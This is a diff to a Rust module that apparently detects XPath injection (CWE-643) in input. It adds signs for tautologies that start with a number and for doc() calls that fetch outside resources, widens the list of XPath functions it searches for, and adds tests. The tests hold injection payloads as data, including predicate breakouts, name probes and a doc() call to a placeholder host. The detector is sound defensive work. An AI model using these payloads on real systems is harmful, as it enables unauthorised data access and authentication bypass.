@@ -6,7 +6,7 @@
 //! Source   CWE-643; XPath 1.0 and 2.0.
 
 use super::marks::Marks;
-use super::search::{find, from, has, has_any, head, starts};
+use super::search::{find, from, has_any, head, starts};
 use super::sign::{Input, Sign, Signs, Strength};
 
 const LEAVES: usize = 0;
@@ -14,6 +14,8 @@ const PATH: usize = 1;
 const PROBE: usize = 2;
 const TAUTOLOGY: usize = 3;
 const EXPRESSION: usize = 4;
+const LEAVES_NUMBER: usize = 5;
+const FETCHES: usize = 6;
 
 pub(super) const SIGNS: &[Sign] = &[
     Sign::new("leaves", Strength::Certain),
@@ -21,16 +23,21 @@ pub(super) const SIGNS: &[Sign] = &[
     Sign::new("probe", Strength::Likely),
     Sign::new("tautology", Strength::Likely),
     Sign::new("expression", Strength::Hint),
+    Sign::new("leaves-number", Strength::Likely),
+    Sign::new("fetches", Strength::Certain),
 ];
 
 /// Bytes that are read.
 const TEXT_BYTES_MAX: usize = 512;
 
+/// Calls that are looked at.
+const PLACES_MAX: usize = 32;
+
 pub(super) fn look(input: &Input<'_>) -> Signs {
     let mut signs = Signs::default();
     let quote = Marks::QUOTE.and(Marks::DOUBLE_QUOTE);
     if input.is_name
-        || !input.marks.has_any(quote.and(Marks::PARENTHESIS))
+        || !input.marks.has_any(quote.and(Marks::PARENTHESIS).and(Marks::BRACKET))
         || !input.marks.has_any(Marks::EQUALS.and(Marks::PARENTHESIS).and(Marks::SLASH))
     {
         return signs;
@@ -49,12 +56,49 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
         signs.note(PATH, pipe.is_some_and(is_path));
         signs.note(TAUTOLOGY, joined(behind).is_some_and(is_tautology));
     }
-    let names_nodes =
-        has_any(text, &[b"(//", b"(/*", b"name(/", b"(/@", b"::*", b"text()", b"node()"]);
-    let calls = CALLS.iter().any(|it| has(text, it));
-    signs.note(PROBE, is_line && calls && begins_with_call(text) && text.contains(&b'='));
-    signs.note(EXPRESSION, names_nodes && calls);
+    if input.marks.has(Marks::BRACKET.and(Marks::PIPE)) && is_line {
+        // `1] | //user | x[1`: out of the predicate, and another path.
+        let joins: [&[u8]; 3] = [b"]|//", b"] | //", b"]| //"];
+        signs.note(PATH, joins.iter().any(|it| memchr::memmem::find(text, it).is_some()));
+    }
+    if !input.marks.has(Marks::PARENTHESIS) || !calls(text) {
+        return signs;
+    }
+    let names_nodes = has_any(
+        text,
+        &[b"(//", b"(/*", b"name(/", b"(/@", b"(/child::", b"::*", b"text()", b"node()"],
+    );
+    signs.note(PROBE, is_line && begins_with_call(text) && text.contains(&b'='));
+    signs.note(EXPRESSION, names_nodes);
+    // `1 or count(/*)=1`: what stands before is a number, a star or one word.
+    let word =
+        text.iter().take(24).take_while(|it| it.is_ascii_alphanumeric() || **it == b'*').count();
+    let blank = from(text, word);
+    if word > 0 && blank.starts_with(b" ") && is_line {
+        let behind = joined(blank.trim_ascii_start());
+        signs.note(LEAVES_NUMBER, behind.is_some_and(|it| is_of_xpath(it) && text.contains(&b'=')));
+        let fetches = behind.and_then(|it| it.strip_prefix(b"doc("));
+        signs.note(
+            FETCHES,
+            fetches.is_some_and(|it| matches!(it, [b'\'' | b'"' | b'c' | b'C', ..])),
+        );
+    }
     signs
+}
+
+/// Whether a function of XPath is called.
+fn calls(text: &[u8]) -> bool {
+    memchr::memchr_iter(b'(', text).take(PLACES_MAX).any(|at| {
+        let before = head(text, at);
+        let length = before
+            .iter()
+            .rev()
+            .take(24)
+            .take_while(|it| it.is_ascii_alphabetic() || **it == b'-')
+            .count();
+        let name = from(before, before.len() - length);
+        length >= 3 && CALLS.iter().any(|it| name.eq_ignore_ascii_case(it))
+    })
 }
 
 /// What follows the first quote and what it closes, if a word or nothing stands before it.
@@ -84,7 +128,10 @@ fn is_of_xpath(text: &[u8]) -> bool {
     let argument = from(text, open + 1).trim_ascii_start();
     let is_own = OWN.iter().any(|it| name.eq_ignore_ascii_case(it));
     let is_shared = SHARED.iter().any(|it| name.eq_ignore_ascii_case(it));
-    is_own || is_shared && (is_path(argument) || is_of_own_call(argument)) || is_path(text)
+    is_own
+        || name.eq_ignore_ascii_case(b"contains")
+        || is_shared && (is_path(argument) || is_of_own_call(argument))
+        || is_path(text)
 }
 
 fn is_of_own_call(text: &[u8]) -> bool {
@@ -178,17 +225,22 @@ const SHARED: &[&[u8]] = &[
     b"last",
 ];
 
-/// Calls as they are searched for.
+/// Calls that are searched for.
 const CALLS: &[&[u8]] = &[
-    b"string-length(",
-    b"starts-with(",
-    b"count(",
-    b"substring(",
-    b"contains(",
-    b"name(",
-    b"codepoints-to-string(",
-    b"text()",
-    b"position(",
+    b"string-length",
+    b"starts-with",
+    b"count",
+    b"substring",
+    b"contains",
+    b"name",
+    b"local-name",
+    b"codepoints-to-string",
+    b"string-to-codepoints",
+    b"text",
+    b"position",
+    b"doc",
+    b"doc-available",
+    b"unparsed-text",
 ];
 
 #[cfg(test)]
@@ -212,12 +264,24 @@ mod tests {
                 "' and string-length(name(/*[1]))=4 and '1'='1",
                 "x' or name()='username' or 'x'='y",
                 "')] | //user/*[contains(*,'",
+                "1] | //user | x[1",
+                "' or contains(name,'adm') or '",
                 "') and contains(../password,'c",
                 "' AND count(/comment())=1 and '1'='1",
                 "\" or //user[1]/name=\"a",
             ]
             .map(|it| if it.contains("comment") { "' and count(/@*)=1 and '1'='1" } else { it }),
         );
+    }
+
+    #[test]
+    fn what_stands_behind_a_number_or_star_is_seen() {
+        check(
+            Some(Strength::Certain),
+            &["* and doc('//e.example/x')", "1 and doc(concat('http://e/',a))"],
+        );
+        check(Some(Strength::Likely), &["1 or count(/*)=1", "5 and string-length(name(/*[1]))=4"]);
+        check(None, &["5 and doc", "* or contains (3)", "1 or name it"]);
     }
 
     #[test]
